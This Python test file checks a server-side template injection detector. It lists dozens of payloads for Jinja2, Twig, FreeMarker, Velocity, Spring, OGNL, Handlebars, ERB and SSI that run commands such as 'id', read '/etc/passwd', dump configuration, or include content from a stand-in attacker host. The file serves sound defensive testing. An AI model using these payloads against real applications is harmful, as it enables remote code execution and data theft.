"""What a detector of templates finds, and what it lets people write."""

import pytest
from everyday import EVERYDAY
from hostile import HOSTILE
from hypothesis import given, settings
from hypothesis import strategies as st

from troth.engines.seclang.detect import template

ATTACKS = (
    b"{{7*7}}",
    b"${7*7}",
    b"#{7*7}",
    b"<%= 7*7 %>",
    b"{{7*'7'}}",
    b"{{''.__class__.__mro__[1].__subclasses__()}}",
    b"{{config}}",
    b"{{config.items()}}",
    b"{{ self.__init__.__globals__ }}",
    b"{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    b"{% for c in [].__class__.__base__.__subclasses__() %}x{% endfor %}",
    b'{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}',
    b"{{['id']|filter('system')}}",
    b'<#assign ex="freemarker.template.utility.Execute"?new()>${ ex("id") }',
    b'${"freemarker.template.utility.Execute"?new()("id")}',
    b"#set($x='')+#set($rt=$x.class.forName('java.lang.Runtime'))",
    b'$class.inspect("java.lang.Runtime").type.getRuntime().exec("id")',
    b"*{T(java.lang.Runtime).getRuntime().exec('id')}",
    b"${T(java.lang.System).getenv()}",
    (
        b'__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("id")'
        b".getInputStream()).next()}__::.x"
    ),
    b"%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
    (
        b"${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRu"
        b'ntime().exec("id").getInputStream()))}'
    ),
    b"{system('id')}",
    b"{$smarty.version}",
    (
        b'{{#with "s" as |string|}}{{#with "e"}}{{this.push (lookup string.sub "'
        b'constructor")}}{{/with}}{{/with}}'
    ),
    b"<%= system('id') %>",
    b"<%= `id` %>",
    b"#{`id`}",
    b"${{7*7}}",
    b"@(7*7)",
    b"@(1+2)",
    b"[[${7*7}]]",
    b"{{constructor.constructor('alert(1)')()}}",
    (
        b"{{range.constructor(\"return global.process.mainModule.require('child_"
        b"process').execSync('id')\")()}}"
    ),
    b'<!--#exec cmd="id"-->',
    b'<!--#include file="/etc/passwd"-->',
    b'<!--#echo var="DOCUMENT_ROOT"-->',
    b"<!--#printenv -->",
    b'<esi:include src="http://evil.example/"/>',
    b"${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
    b"${@phpinfo()}",
    b"{${phpinfo()}}",
)
HARMLESS = (
    b"{{ name }}",
    b"${total}",
    b"{% if a %}b{% endif %}",
    b"<%= name %>",
    b'{{ date | format("d.m.Y") }}',
    b"{{{raw}}}",
    b"#{title}",
    b"it costs {7} * {8}",
    b'{"a": {"b": 1}}',
)


@pytest.mark.parametrize("value", ATTACKS)
def test_attacks_are_found(value: bytes):
    assert template.find(value)


@pytest.mark.parametrize("value", [*HARMLESS, *EVERYDAY])
def test_what_people_write_passes(value: bytes):
    assert template.find(value) is None


@given(
    st.binary(max_size=200)
    | st.sampled_from(ATTACKS).flatmap(
        lambda a: st.binary(max_size=8).map(lambda b: a[:40] + b + a[40:])
    )
)
@settings(max_examples=150, deadline=None)
def test_it_never_raises(value: bytes):
    assert template.find(value) is None or isinstance(template.find(value), str)


@pytest.mark.parametrize("unit", HOSTILE)
def test_hostile_values_come_to_an_end(unit: bytes):
    value = unit * (16384 // len(unit))

    assert template.recognise(value) == template.recognise(value)
